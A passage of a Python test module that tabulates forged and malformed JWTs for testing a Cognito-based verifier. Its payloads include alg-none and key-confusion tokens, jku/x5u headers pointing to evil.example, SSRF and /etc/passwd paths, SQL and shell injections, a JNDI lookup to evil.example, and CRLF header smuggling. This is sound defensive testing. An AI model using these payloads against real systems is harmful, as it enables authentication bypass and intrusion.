"""The table: every hostile token with the reason for which it must be refused, and odd ones that are genuine."""

from __future__ import annotations

import base64
import datetime
import gzip
import json
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product

from cryptography import x509
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding

from tests.hostile.lab import BLOCKS, HOST, ISSUER, POOL, SECRET, UNUSABLE, Lab, decode, encode, text_of

ANY = ""
"""Refused; which fault is found first does not matter."""
KINDS = ("id", "access")


@dataclass(frozen=True)
class Attack:
    """A token and the fault that it must be refused for, with 401.

    Attributes:
        name: what is tried; unique within its family.
        make: makes the token.
        code: the code of the fault, as the log tells it; :data:`ANY` if several would do.
        kind: the place of a session where it is put, ``"id"`` or ``"access"``.
        in_header: whether HTTP brings it to the site as it is.
    """

    name: str
    make: Callable[[Lab], str]
    code: str
    kind: str = "id"
    in_header: bool = True


@dataclass(frozen=True)
class Oddity:
    """A genuine token that looks odd, with the answer of a view that is for moderators."""

    name: str
    make: Callable[[Lab], str]
    status: int = 200
    kind: str = "id"


def text(value: object) -> str:
    """Write JSON."""
    return json.dumps(value)


# --- Algorithms ------------------------------------------------------------------------------------------------------


def algorithms() -> Iterator[Attack]:
    """Another algorithm than RS256, by name or in fact (RFC 8725 section 2.1)."""
    for letters in product("nN", "oO", "nN", "eE"):
        name = "".join(letters)
        yield Attack(f"{name}, signed", lambda lab, name=name: lab.good(alg=text(name)), "algorithm")
        yield Attack(f"{name}, unsigned", lambda lab, name=name: unsigned(lab, name), "malformed")
    yield Attack("none, one byte of signature", lambda lab: unsigned(lab, "none") + "AA", "algorithm")
    yield Attack("RS256, unsigned", lambda lab: unsigned(lab, "RS256"), "malformed")
    for secret in SECRETS:
        for bits in ("256", "384", "512"):
            yield Attack(
                f"HS{bits} by {secret}",
                lambda lab, secret=secret, bits=bits: lab.by_hmac(f"HS{bits}", lab.secrets()[secret], bits),
                "algorithm",
            )
        yield Attack(
            f"an HMAC by {secret} that says RS256",
            lambda lab, secret=secret: lab.by_hmac("RS256", lab.secrets()[secret], "256"),
            "signature",
        )
    for scheme, bits in (("RS", "384"), ("RS", "512"), ("PS", "256"), ("PS", "384"), ("PS", "512")):
        for said, code in ((f"{scheme}{bits}", "algorithm"), ("RS256", "signature")):
            yield Attack(
                f"{scheme}{bits} by the issuer's key, said to be {said}",
                lambda lab, scheme=scheme, bits=bits, said=said: lab.by_rsa(said, scheme, bits),
                code,
            )
    yield Attack("SHA-1 that says RS256", lambda lab: lab.by_rsa("RS256", "RS", "1"), "signature")
    yield Attack("RS1", lambda lab: lab.by_rsa("RS1", "RS", "1"), "algorithm")
    for name in ("ES256", "ES384", "ES512", "ES256K", "EdDSA"):
        for said, code in ((name, "algorithm"), ("RS256", "signature")):
            yield Attack(f"{name}, said to be {said}", lambda lab, a=said, b=name: lab.by_curve(a, b), code)
    for value in ALGORITHM_VALUES:
        yield Attack(f"alg is {value}", lambda lab, value=value: lab.good(alg=value), "algorithm")
    for first, second in (("RS256", "none"), ("none", "RS256"), ("RS256", "HS256"), ("RS256", "RS256")):
        pairs = [("alg", text(first)), ("alg", text(second))]
        yield Attack(
            f"alg twice, {first} and {second}",
            lambda lab, pairs=pairs: lab.signed([*lab.header(alg=None), *pairs], lab.claims()),
            "malformed",
        )


SECRETS = (
    "pem spki",
    "pem pkcs1",
    "der spki",
    "der pkcs1",
    "pem without its last line break",
    "jwk",
    "jwk set",
    "modulus",
    "modulus as text",
    "key id",
    "nothing",
)
ALGORITHM_VALUES = (
    None,
    *("null", "true", "false", "0", "5", "256", "1.5", "[]", '["RS256"]', "{}", '{"alg":"RS256"}', '[["RS256"]]'),
    *map(
        text,
        [
            *("", " ", "RS256 ", " RS256", "rs256", "Rs256", "rS256", "RS-256", "RS_256", "RS256,none", "RS256;none"),
            *("RSA", "RSA256", "RSA-SHA256", "SHA256withRSA", "RS2560", "RS25", "dir", "A128KW", "RSA-OAEP", "RSA1_5"),
            *("RS256\0", "RS256\n", "RS256\t", "RS256\u200b", "\ufeffRS256", "\uff32\uff33\uff12\uff15\uff16"),
            *("R\u0405256", "RS\u0662\u0665\u0666", "\ud800", "*", "1.2.840.113549.1.1.11"),
        ],
    ),
)


def unsigned(lab: Lab, algorithm: str) -> str:
    """A token whose signature is empty."""
    return lab.sealed(lab.header(alg=text(algorithm)), lab.claims(), lambda signed: b"")


# --- Header parameters ---------------------------------------------------------------------------------------------


def parameters() -> Iterator[Attack]:
    """A key, or the way to one, in the header itself; and parameters that change what a token is."""
    for name, value in KEY_PARAMETERS.items():
        for kid, code in (("the issuer's", "signature"), ("their own", "unknown_key")):
            yield Attack(
                f"{name}, under {kid} key id",
                lambda lab, name=name, value=value, kid=kid: lab.forged(
                    **{name.split()[0]: value(lab)}, **({} if kid == "the issuer's" else {"kid": text(lab.forger.kid)})
                ),
                code,
            )
    for value in ('["exp"]', '["b64"]', '["alg"]', "[]", '"exp"', "null", "{}", "true", "[null]", "0", '["x"]'):
        yield Attack(f"crit is {value}", lambda lab, value=value: lab.good(crit=value), "critical")
    yield Attack("b64 and crit", lambda lab: lab.good(b64="false", crit='["b64"]'), "critical")
    yield Attack("b64", lambda lab: lab.good(b64="false"), "malformed")
    yield Attack("b64, and a payload in plain text", plain_payload, "malformed")
    yield Attack(
        "zip", lambda lab: lab.signed(lab.header(zip='"DEF"'), zlib.compress(text_of(lab.claims()))), "malformed"
    )
    yield Attack("zip, raw", lambda lab: lab.signed(lab.header(zip='"DEF"'), deflated(lab)), "malformed")
    yield Attack("a JWT in a JWT", lambda lab: lab.signed(lab.header(cty='"JWT"'), lab.good().encode()), "malformed")
    yield Attack(
        "a JWT in quotes in a JWT",
        lambda lab: lab.signed(lab.header(cty='"JWT"'), text(lab.good()).encode()),
        "malformed",
    )
    yield Attack("enc", lambda lab: lab.good(alg='"RSA-OAEP"', enc='"A256GCM"'), "algorithm")


KEY_PARAMETERS: dict[str, Callable[[Lab], str]] = {
    "jwk": lambda lab: text(lab.forger.jwks["keys"][0]),
    "jwk of an HMAC": lambda lab: text({"kty": "oct", "k": "c2VjcmV0", "kid": lab.mint.kid}),
    "jwk as a list": lambda lab: text(lab.forger.jwks["keys"]),
    "jwk as text": lambda lab: text(text(lab.forger.jwks["keys"][0])),
    "jku": lambda lab: text("https://evil.example/.well-known/jwks.json"),
    "jku of the issuer": lambda lab: text(f"{ISSUER}@evil.example/.well-known/jwks.json"),
    "jku to a file": lambda lab: text("file:///etc/passwd"),
    "jku within": lambda lab: text("http://169.254.169.254/latest/meta-data/"),
    "jku with data": lambda lab: text("data:application/json," + text(lab.forger.jwks)),
    "x5u": lambda lab: text("https://evil.example/certificate.pem"),
    "x5c": lambda lab: text([certificate(lab)]),
    "x5t": lambda lab: text("dGh1bWJwcmludA"),
    "x5t#S256": lambda lab: text("dGh1bWJwcmludA"),
    "keys": lambda lab: text(lab.forger.jwks["keys"]),
    "jwks": lambda lab: text(lab.forger.jwks),
    "iss": lambda lab: text("https://evil.example"),
}


def certificate(lab: Lab) -> str:
    """A certificate that the attacker has made for the issuer's name."""
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, HOST)])
    start = datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC)
    built = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(lab.forger._private_key.public_key())
        .serial_number(1)
        .not_valid_before(start)
        .not_valid_after(start + datetime.timedelta(days=20_000))
        .sign(lab.forger._private_key, SHA256())
    )
    return base64.b64encode(built.public_bytes(Encoding.DER)).decode()


def plain_payload(lab: Lab) -> str:
    """RFC 7797: the payload is not encoded."""
    header, _, signature = lab.good(b64="false").split(".")
    return f"{header}.{text_of(lab.claims()).decode()}.{signature}"


def deflated(lab: Lab) -> bytes:
    """The claims as RFC 7516 compresses them."""
    compressor = zlib.compressobj(wbits=-15)
    return compressor.compress(text_of(lab.claims())) + compressor.flush()


# --- Key ids -------------------------------------------------------------------------------------------------------


def key_ids() -> Iterator[Attack]:
    """Ids that are none, that are paths or queries, and that are almost one of the set."""
    for value in (None, "null", "true", "false", "0", "5", "-1", "1.5", "[]", '["a"]', "{}", '{"kid":"a"}', '""'):
        yield Attack(f"kid is {value}", lambda lab, value=value: lab.good(kid=value), "key_id")
    for value in KEY_IDS:
        yield Attack(f"kid is {value!r}", lambda lab, value=value: lab.forged(kid=text(value)), "unknown_key")
    for name, change in ALMOST.items():
        yield Attack(f"kid {name}", lambda lab, change=change: lab.good(kid=text(change(lab.mint.kid))), "unknown_key")
    for length, code in ((256, "unknown_key"), (257, "key_id"), (1_000, "key_id"), (40_000, "key_id")):
        yield Attack(f"kid of {length} characters", lambda lab, n=length: lab.forged(kid=text("k" * n)), code)
    yield Attack("kid of a megabyte", lambda lab: lab.forged(kid=text("k" * 1_000_000)), "too_large")
    yield Attack("kid to nothing, HMAC by nothing", null_device, "algorithm")
    for name, values in {"first": ("mint", "forger"), "last": ("forger", "mint")}.items():
        yield Attack(
            f"kid twice, the issuer's {name}",
            lambda lab, values=values: lab.signed(
                [*(("kid", text(getattr(lab, value).kid)) for value in values), ("alg", '"RS256"')], lab.claims()
            ),
            "malformed",
        )
    for kid in (*UNUSABLE, "no-n", "no-e", "no-kty", "5"):
        yield Attack(f"the key {kid} of the set", lambda lab, kid=kid: lab.forged(kid=text(kid)), "unknown_key")
    for bits in (1024, 2040):
        yield Attack(
            f"a key of {bits} bits of the set",
            lambda lab, bits=bits: lab.signed(
                lab.header(kid=text(f"small-{bits}")), lab.claims(), lab.small[bits]._private_key
            ),
            "unknown_key",
        )


def null_device(lab: Lab) -> str:
    """The key is a file that is empty, so that an HMAC by nothing would verify."""
    token = lab.by_hmac("HS256", b"", "256").split(".")
    header = encode(text_of(lab.header(alg='"HS256"', kid=text("../../../../dev/null"))))
    return f"{header}.{token[1]}.{token[2]}"


KEY_IDS = (
    *("../../dev/null", "/dev/null", "/etc/passwd", "../../../../proc/self/environ", "..\\..\\windows\\win.ini"),
    *("file:///dev/null", "https://evil.example/key", "//evil.example/key", ".", "..", "/", "*", "%00", "%2e%2e%2f"),
    *(
        "' OR '1'='1",
        "x' UNION SELECT 'key' -- ",
        '"; DROP TABLE keys; --',
        "1) OR (1=1",
        "$(id)",
        "`id`",
        "|id",
        ";id",
    ),
    *(
        "{{7*7}}",
        "{% debug %}",
        "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "%s%s%n",
        "{0.__class__}",
    ),
    *("__proto__", "constructor", "keys", "0", "None", "null", "\0", "\n", "a\0b", "a\r\nSet-Cookie: a=b", "\u2028"),
    *("\ud800", "\udfff\ud800", "\U0001f511", "\u202e", "\ufeff", " "),
)
ALMOST: dict[str, Callable[[str], str]] = {
    "with a NUL behind": lambda kid: kid + "\0",
    "with a line break behind": lambda kid: kid + "\n",
    "with a blank behind": lambda kid: kid + " ",
    "with a blank before": lambda kid: " " + kid,
    "with padding": lambda kid: kid + "=",
    "in other case": lambda kid: kid.swapcase(),
    "without its last letter": lambda kid: kid[:-1],
    "with one letter more": lambda kid: kid + "A",
    "twice": lambda kid: f"{kid},{kid}",
    "in a path": lambda kid: f"./{kid}",
    "with a zero-width space": lambda kid: kid + "\u200b",
}


# --- Claims --------------------------------------------------------------------------------------------------------

# Values that are no text, and those that are no JSON.
WRONG = ("null", "true", "false", "0", "-1", "1.5", "[]", "{}", '[["a"]]', '{"a":1}', "1e400", "-1e400", "1e-400")
NO_JSON = ("NaN", "Infinity", "-Infinity", "9" * 5_000, "-" + "9" * 5_000, "'a'", "01", "+1", "undefined", "0x10", "")


def claims() -> Iterator[Attack]:
    """Every claim, missing, null and of every wrong type; the issuer has signed them."""
    for kind in KINDS:
        client, other = ("aud", "client_id") if kind == "id" else ("client_id", "aud")
        texts = {"iss": "issuer", "sub": "claims", "token_use": "token_use", client: "client", "jti": "claims"}
        for claim, code in texts.items():
            for value in WRONG:
                is_required = value == "null" and claim in ("sub", "token_use")
                yield of_claim(kind, claim, value, "claims" if is_required else code)
        for claim in ("sub", "token_use", "exp"):
            yield of_claim(kind, claim, None, "claims")
        yield of_claim(kind, "iss", None, "issuer")
        yield of_claim(kind, client, None, "client")
        for value, code in EXPIRIES.items():
            yield of_claim(kind, "exp", value, code)
        for value, code in STARTS.items():
            yield of_claim(kind, "nbf", value, code)
        for value in CLIENTS:
            yield of_claim(kind, client, value, "client")
        yield Attack(
            f"{kind}: the client in the other claim",
            lambda lab, kind=kind, client=client, other=other: lab.claiming(
                kind, **{client: None, other: '"client-1"'}
            ),
            "client",
            kind,
        )
        for claim in (*texts, "exp", "nbf", "iat", "auth_time", "scope", "origin_jti", "cognito:groups", "email"):
            for value in NO_JSON:
                yield of_claim(kind, claim, value, "malformed")
        for claim in (*texts, "exp", "cognito:groups"):
            yield from twice(kind, claim)
    for value in ("NaN", "9" * 5_000):
        yield Attack(
            f"{value[:5]} deep in a claim",
            lambda lab, value=value: lab.claiming(custom=f'{{"a":[{{"b":{value}}}]}}'),
            "malformed",
        )


def of_claim(kind: str, claim: str, value: str | None, code: str) -> Attack:
    """One claim with another value, or without any."""
    shown = "missing" if value is None else value if len(value) < 40 else f"{value[:10]}… of {len(value)}"
    return Attack(f"{kind}: {claim} is {shown}", lambda lab: lab.claiming(kind, **{claim: value}), code, kind)


def twice(kind: str, claim: str) -> Iterator[Attack]:
    """A name that stands twice: parsers differ in which they take."""
    for order in ("good first", "good last", "good twice", "escaped"):
        yield Attack(
            f"{kind}: {claim} twice, {order}",
            lambda lab, order=order: doubled(lab, kind, claim, order),
            "malformed",
            kind,
        )


def doubled(lab: Lab, kind: str, claim: str, order: str) -> str:
    good = dict(lab.claims(kind))[claim]
    others = [pair for pair in lab.claims(kind) if pair[0] != claim]
    both = {"good first": [good, '"x"'], "good last": ['"x"', good], "good twice": [good, good]}.get(
        order, [good, '"x"']
    )
    payload = text_of([(claim, both[0]), *others, (claim, both[1])])
    if order == "escaped":
        first = f"\\u{ord(claim[0]):04x}{claim[1:]}"
        payload = payload.replace(f'"{claim}"'.encode(), f'"{first}"'.encode(), 1)
    return lab.signed(lab.header(), payload)


EXPIRIES = {
    # True is the number 1 to Python.
    **dict.fromkeys(("true", "false", "0", "-0", "-1", "1.5", "1e3", "-1e300", "1e-400", "-" + "9" * 400), "expired"),
    **dict.fromkeys(('"9999999999"', '" 9999999999 "', '"9_999_999_999"', text("９９９９９９９９９９")), "claims"),  # noqa: RUF001
    **dict.fromkeys(("253402300800", "1e300", "9" * 400, "null"), "claims"),
    **dict.fromkeys(('""', '"soon"', '"never"', '"1e99"', '"NaN"', '"Infinity"', '"0x7fffffff"'), "malformed"),
    **dict.fromkeys(("[]", "[9999999999]", "{}", '{"exp":9999999999}', "1e400", "-1e400"), "malformed"),
}
STARTS = {
    **dict.fromkeys(("9999999999", '"9999999999"', "1e300", "9" * 400), "not_yet_valid"),
    **dict.fromkeys(('""', '"soon"', "null", "[]", "[0]", "{}", "1e400", "-1e400", '"1e3"'), "malformed"),
}
CLIENTS = (
    *('""', '" "', '"other"', '"client"', '"client-"', '"client-11"', '"CLIENT-1"', '"client-1 "', '" client-1"'),
    *('["client-1"]', '["client-1","other"]', '["other"]', '[["client-1"]]', '{"client-1":true}', '"client-1,other"'),
    *(text("client-1\0"), text("client-1\n"), text("client\u20111"), text("сlient-1"), '"*"', '"null"', '"None"'),  # noqa: RUF001
)


def groups() -> Iterator[Attack]:
    """Groups that are no list of names that Amazon Verified Permissions takes."""
    values = {
        **dict.fromkeys(("null", '""', '"moderators"', "0", "1", "true", "false", "{}", '{"moderators":1}')),
        **dict.fromkeys(("[null]", "[1]", "[true]", "[[]]", '[["moderators"]]', "[{}]", '["moderators",1]')),
        text("moderators,admins"): None,
        text(["moderators", {"__entity": {}}]): None,
        **{text(["moderators", name]): None for name in BAD_NAMES},
        text(["g" * 613]): None,
        text([f"group-{number}" for number in range(200)] + [None]): None,
    }
    for kind, value in product(KINDS, values):
        yield of_claim(kind, "cognito:groups", value, "groups")


BAD_NAMES = ("a\nb", "a\rb", "a\0b", "\0", "a\u2028b", "a\u2029b", "a\x85b", "\ud800", "\udc00a")


def subjects() -> Iterator[Attack]:
    """Subs that cannot be the id of an entity (rule A9)."""
    bad = {
        "nothing": "",
        "593 characters": "s" * 593,
        "10,000 characters": "s" * 10_000,
        **{repr(name): name for name in BAD_NAMES},
        "an injection over two lines": '") || true || ("\n//',
        "a header": f"{SECRET}\r\nSet-Cookie: a=b",
    }
    for kind, (name, value) in product(KINDS, bad.items()):
        yield Attack(f"{kind}: {name}", lambda lab, k=kind, v=value: lab.claiming(k, sub=text(v)), "claims", kind)


def token_uses() -> Iterator[Attack]:
    """Kinds of token that are none of ours."""
    values = ("refresh", "ID", "Id", "Access", "ACCESS", "id ", " id", "id\0", "access\n", "idaccess", "id,access", "")
    more = ("id_token", "access_token", "web", "*", "both", "None", "null", "\u0456d", "ıd", "i\u200bd", "logout")
    for kind, value in product(KINDS, (*values, *more)):
        yield Attack(
            f"{kind}: {value!r}", lambda lab, k=kind, v=value: lab.claiming(k, token_use=text(v)), "token_use", kind
        )


def issuers() -> Iterator[Attack]:
    """Issuers that look like ours; whoever they are of, none is."""
    for name, value in ISSUERS.items():
        yield Attack(name, lambda lab, value=value: lab.claiming(iss=text(value)), "foreign_issuer")
        yield Attack(
            f"{name}, unsigned",
            lambda lab, value=value: lab.sealed(
                lab.header(alg='"none"'), lab.claims(changes={"iss": text(value)}), lambda signed: b"x"
            ),
            "foreign_issuer",
        )


ISSUERS = {
    "nothing": "",
    "a slash behind": f"{ISSUER}/",
    "two slashes": ISSUER.replace(f"/{POOL}", f"//{POOL}"),
    "a letter less": ISSUER[:-1],
    "a letter more": f"{ISSUER}4",
    "another letter": f"{ISSUER[:-1]}4",
    "upper case": ISSUER.upper(),
    "host in upper case": ISSUER.replace(HOST, HOST.upper()),
    "scheme in upper case": ISSUER.replace("https", "HTTPS"),
    "pool in lower case": ISSUER.replace(POOL, POOL.lower()),
    "no scheme": ISSUER.removeprefix("https:"),
    "http": ISSUER.replace("https", "http"),
    "another region": ISSUER.replace("eu-west-1", "eu-west-2"),
    "another region's host": ISSUER.replace("idp.eu-west-1", "idp.us-east-1"),
    "another pool": ISSUER.replace("AbCdEf123", "Other"),
    "another pool's updated form": ISSUER.replace("AbCdEf123", "Other").replace("cognito-idp", "issuer-cognito-idp"),
    "another form": ISSUER.replace("cognito-idp", "issuer.cognito-idp"),
    "two pools": f"{ISSUER},{ISSUER}",
    "a port": ISSUER.replace(HOST, f"{HOST}:443"),
    "a query": f"{ISSUER}?a=b",
    "a fragment": f"{ISSUER}#a",
    "a key set's address": f"{ISSUER}/.well-known/jwks.json",
    "ours as user": f"https://{HOST}@evil.example/{POOL}",
    "ours as user and password": f"https://{HOST}:443@evil.example/{POOL}",
    "user before ours": f"https://evil@{HOST}/{POOL}",
    "ours as a subdomain": f"https://{HOST}.evil.example/{POOL}",
    "ours in a path": f"https://evil.example/{HOST}/{POOL}",
    "a path back": f"https://{HOST}/other/../{POOL}",
    "a dot behind the host": f"https://{HOST}./{POOL}",
    "a backslash": f"https:\\\\{HOST}\\{POOL}",
    "percent-encoded": ISSUER.replace("_", "%5F"),
    "a homograph": ISSUER.replace("o", "\u043e", 1),
    "full-width": ISSUER.replace("i", "\uff49", 1),
    "an ideographic dot": ISSUER.replace(".", "\u3002", 1),
    "a combining accent": ISSUER + "\u0301",
    "a zero-width joiner": ISSUER.replace("amazon", "ama\u200dzon"),
    "right to left": "\u202e" + ISSUER[::-1],
    "a blank behind": f"{ISSUER} ",
    "a blank before": f" {ISSUER}",
    "a line break behind": f"{ISSUER}\n",
    "a NUL behind": f"{ISSUER}\0",
    "a lone surrogate": f"{ISSUER}\ud800",
    "another partition": f"{ISSUER.replace('.com', '.com.cn')}",
    "localhost": f"http://localhost/{POOL}",
    "the pool alone": POOL,
    "someone else's": "https://accounts.evil.example",
}


def reserved() -> Iterator[Attack]:
    """Claims that spell Cedar's escapes, at any depth (rule A6)."""
    escapes = {
        "__entity": {"type": "PhotoFlash::Group", "id": f"{POOL}|moderators"},
        "__extn": {"fn": "unknown", "arg": "x"},
        "__expr": 'PhotoFlash::Group::"moderators"',
    }
    for kind, (name, value), depth in product(KINDS, escapes.items(), (0, 1, 2, 5, 9, 100)):
        for wrapping in ("record", "list")[: depth + 1]:
            yield Attack(
                f"{kind}: {name}, {depth} deep in a {wrapping}",
                lambda lab, k=kind, n=name, v=value, d=depth, w=wrapping: lab.claiming(k, custom=wrapped({n: v}, d, w)),
                "reserved",
                kind,
            )
    for name, value in escapes.items():
        yield Attack(f"{name} as a claim", lambda lab, n=name, v=value: lab.claiming(**{n: text(v)}), "reserved")
        escaped = f'{{"\\u005f{name[1:]}":{text(value)}}}'
        yield Attack(f"{name}, escaped", lambda lab, v=escaped: lab.claiming(custom=v), "reserved")
        yield Attack(f"{name} of null", lambda lab, n=name: lab.claiming(custom=text({n: None})), "reserved")
        yield Attack(f"{name} in an address", lambda lab, n=name: lab.claiming(address=text({n: {}})), "reserved")


def wrapped(value: object, depth: int, wrapping: str) -> str:
    """A value within lists or records."""
    for _ in range(depth):
        value = [value] if wrapping == "list" else {"a": value}
    return text(value)


# --- Text ----------------------------------------------------------------------------------------------------------


def spellings() -> Iterator[Attack]:
    """A good token, written in another way (RFC 7515 sections 2 and 7.1)."""
    for name, change in SPELLINGS.items():
        yield Attack(name, lambda lab, change=change: change(*lab.good().split(".")), "malformed")
    for name, change in BLANKS.items():
        yield Attack(name, lambda lab, change=change: change(lab.good()), "malformed", in_header=False)
    for index, name in enumerate(("header", "payload", "signature")):
        yield Attack(f"last bits of the {name}", lambda lab, index=index: last_bits(lab, index), "malformed")
    yield Attack("last bits of a signature that was seen", seen, "malformed")
    yield Attack("the standard alphabet", standard, "malformed")
    for value in (
        "",
        "a",
        "null",
        "undefined",
        "[object Object]",
        "None",
        "0",
        "true",
        "{}",
        "é",
        "\u0661.\u0661.\u0661",
    ):
        yield Attack(f"the text {value!r}", lambda lab, value=value: value, "malformed")
    yield Attack("a lone surrogate", lambda lab: "\ud800.YQ.YQ", "malformed", in_header=False)
    yield Attack("a refresh token of five segments", encrypted, "malformed")
    yield Attack("an opaque refresh token", lambda lab: encode(SECRET.encode() * 20), "malformed")
    yield Attack("the general serialization", general, "malformed")
    yield Attack("the flattened serialization", flattened, "malformed")


SPELLINGS: dict[str, Callable[[str, str, str], str]] = {
    "nothing but dots": lambda h, p, s: "..",
    "one dot": lambda h, p, s: ".",
    "a thousand dots": lambda h, p, s: "." * 1_000,
    "no signature": lambda h, p, s: f"{h}.{p}",
    "no payload": lambda h, p, s: f"{h}.{s}",
    "an empty payload": lambda h, p, s: f"{h}..{s}",
    "no header": lambda h, p, s: f"{p}.{s}",
    "an empty header": lambda h, p, s: f".{p}.{s}",
    "the header alone": lambda h, p, s: h,
    "the payload alone": lambda h, p, s: p,
    "four segments": lambda h, p, s: f"{h}.{p}.{s}.{s}",
    "five segments": lambda h, p, s: f"{h}.{p}.{s}.{p}.{s}",
    "six segments": lambda h, p, s: f"{h}.{p}.{s}.{h}.{p}.{s}",
    "a dot behind": lambda h, p, s: f"{h}.{p}.{s}.",
    "a dot before": lambda h, p, s: f".{h}.{p}.{s}",
    "two dots within": lambda h, p, s: f"{h}..{p}.{s}",
    "one padding": lambda h, p, s: f"{h}.{p}.{s}=",
    "two paddings": lambda h, p, s: f"{h}.{p}.{s}==",
    "padded segments": lambda h, p, s: ".".join(part + "=" * (-len(part) % 4 or 4) for part in (h, p, s)),
    "a padded header": lambda h, p, s: f"{h}=.{p}.{s}",
    "a padded payload": lambda h, p, s: f"{h}.{p}=.{s}",
    "encoded padding": lambda h, p, s: f"{h}.{p}.{s}%3D%3D",
    "encoded dots": lambda h, p, s: f"{h}%2E{p}%2E{s}",
    "percent-encoded": lambda h, p, s: "".join(f"%{ord(letter):02X}" for letter in f"{h}.{p}.{s}"),
    "a blank within": lambda h, p, s: f"{h}. {p}.{s}",
    "a blank within the signature": lambda h, p, s: f"{h}.{p}.{s[:9]} {s[9:]}",
    "a tab within": lambda h, p, s: f"{h}.\t{p}.{s}",
    "two tokens": lambda h, p, s: f"{h}.{p}.{s} {h}.{p}.{s}",
    "two tokens with a comma": lambda h, p, s: f"{h}.{p}.{s},{h}.{p}.{s}",
    "two tokens with a comma and a scheme": lambda h, p, s: f"{h}.{p}.{s}, Bearer {h}.{p}.{s}",
    "the scheme again": lambda h, p, s: f"Bearer {h}.{p}.{s}",
    "quotes": lambda h, p, s: f'"{h}.{p}.{s}"',
    "single quotes": lambda h, p, s: f"'{h}.{p}.{s}'",
    "brackets": lambda h, p, s: f"<{h}.{p}.{s}>",
    "a semicolon behind": lambda h, p, s: f"{h}.{p}.{s};",
    "a parameter": lambda h, p, s: f"token={h}.{p}.{s}",
    "a colon": lambda h, p, s: f"token:{h}.{p}.{s}",
    "another dot": lambda h, p, s: f"{h}\u3002{p}\u3002{s}",
    "colons as dots": lambda h, p, s: f"{h}:{p}:{s}",
    "a zero-width space behind": lambda h, p, s: f"{h}.{p}.{s}\u200b",
    "a full-width letter": lambda h, p, s: f"{h}.{p}.{s[:-1]}\uff21",
    "a no-break space behind": lambda h, p, s: f"{h}.{p}.{s}\u00a0",
    "a byte order mark": lambda h, p, s: f"\ufeff{h}.{p}.{s}",
    "reversed": lambda h, p, s: f"{h}.{p}.{s}"[::-1].replace(".", ".."),
    "encoded again": lambda h, p, s: encode(f"{h}.{p}.{s}".encode()),
    "hexadecimal": lambda h, p, s: ".".join(decode(part).hex() + "zz" for part in (h, p, s)) + ".",
    "upper case": lambda h, p, s: f"{h}.{p}.{s}".upper(),
    "lower case": lambda h, p, s: f"{h}.{p}.{s}".lower(),
}
# HTTP takes these away, or takes them for the end of the header.
BLANKS: dict[str, Callable[[str], str]] = {
    "a blank before": lambda token: f" {token}",
    "a blank behind": lambda token: f"{token} ",
    "a tab behind": lambda token: f"{token}\t",
    "a line break behind": lambda token: f"{token}\n",
    "a line break before": lambda token: f"\n{token}",
    "CR and LF behind": lambda token: f"{token}\r\n",
    "a line break within": lambda token: f"{token[:40]}\n{token[40:]}",
    "lines of 64": lambda token: "\n".join(token[i : i + 64] for i in range(0, len(token), 64)),
    "a folded line": lambda token: f"{token[:40]}\r\n {token[40:]}",
    "a NUL behind": lambda token: f"{token}\0",
    "a NUL within": lambda token: f"{token[:40]}\0{token[40:]}",
    "a form feed behind": lambda token: f"{token}\f",
    "a header behind": lambda token: f"{token}\r\nX-Other: a",
}


def last_bits(lab: Lab, index: int) -> str:
    """Other bits where a segment has more than its bytes need."""
    parts = ((lab.header(x=x), lab.claims(changes={"x": x})) for x in (text("x" * length) for length in range(9)))
    padded = next(lab.signed(*both) for both in parts if all(len(encode(text_of(part))) % 4 for part in both))
    segments = padded.split(".")
    segments[index] = segments[index][:-1] + following(segments[index][-1])
    return ".".join(segments)


def seen(lab: Lab) -> str:
    """The token that the site remembers, but for bits of its last letter that mean nothing."""
    token = lab.good()
    return token[:-1] + following(token[-1])


def following(letter: str) -> str:
    """The next letter of the alphabet of RFC 4648 section 5."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return alphabet[alphabet.index(letter) + 1]


def standard(lab: Lab) -> str:
    """The alphabet of RFC 4648 section 4, in which two letters differ."""
    tokens = (lab.claiming(n=text(number)) for number in range(1_000))
    return next(token for token in tokens if {"-", "_"} <= set(token)).replace("-", "+").replace("_", "/")


def encrypted(lab: Lab) -> str:
    """Cognito's refresh tokens are JWE."""
    header = encode(b'{"cty":"JWT","enc":"A256GCM","alg":"RSA-OAEP"}')
    return ".".join([header, *(encode(SECRET.encode() * n) for n in (8, 1, 40, 1))])


def general(lab: Lab) -> str:
    header, payload, signature = lab.good().split(".")
    return text({"payload": payload, "signatures": [{"protected": header, "signature": signature}]})


def flattened(lab: Lab) -> str:
    header, payload, signature = lab.good().split(".")
    return text({"payload": payload, "protected": header, "signature": signature})


def junk() -> Iterator[Attack]:
    """A header or a payload that is no JSON object in UTF-8; the issuer has signed it."""
    for name, change in JUNK.items():
        yield Attack(
            f"header: {name}", lambda lab, c=change: lab.signed(c(text_of(lab.header())), lab.claims()), "malformed"
        )
        yield Attack(
            f"payload: {name}", lambda lab, c=change: lab.signed(lab.header(), c(text_of(lab.claims()))), "malformed"
        )


JUNK: dict[str, Callable[[bytes], bytes]] = {
    "a byte order mark": lambda data: b"\xef\xbb\xbf" + data,
    "UTF-16": lambda data: data.decode().encode("utf-16"),
    "UTF-16, little end": lambda data: data.decode().encode("utf-16-le"),
    "UTF-16, big end": lambda data: data.decode().encode("utf-16-be"),
    "UTF-32": lambda data: data.decode().encode("utf-32"),
    "an overlong quote": lambda data: data.replace(b'"', b"\xc0\xa2", 1),
    "an overlong letter": lambda data: data.replace(b"s", b"\xc1\xb3").replace(b"k", b"\xc1\xab"),
    "a surrogate in UTF-8": lambda data: data[:-1] + b',"x":"\xed\xa0\x80"}',
    "Latin-1": lambda data: data[:-1] + b',"x":"\xe9"}',
    "beyond Unicode": lambda data: data[:-1] + b',"x":"\xf4\x90\x80\x80"}',
    "half a letter": lambda data: data[:-1] + b',"x":"\xe2\x82"}',
    "compressed": gzip.compress,
    "a comment": lambda data: data + b"/* */",
    "a comment before": lambda data: b"// x\n" + data,
    "single quotes": lambda data: data.replace(b'"', b"'"),
    "a comma too many": lambda data: data[:-1] + b",}",
    "a value without a name": lambda data: data[:-1] + b',"x"}',
    "a name without quotes": lambda data: data[:-1] + b",x:1}",
    "a line break in a text": lambda data: data[:-1] + b',"x":"a\nb"}',
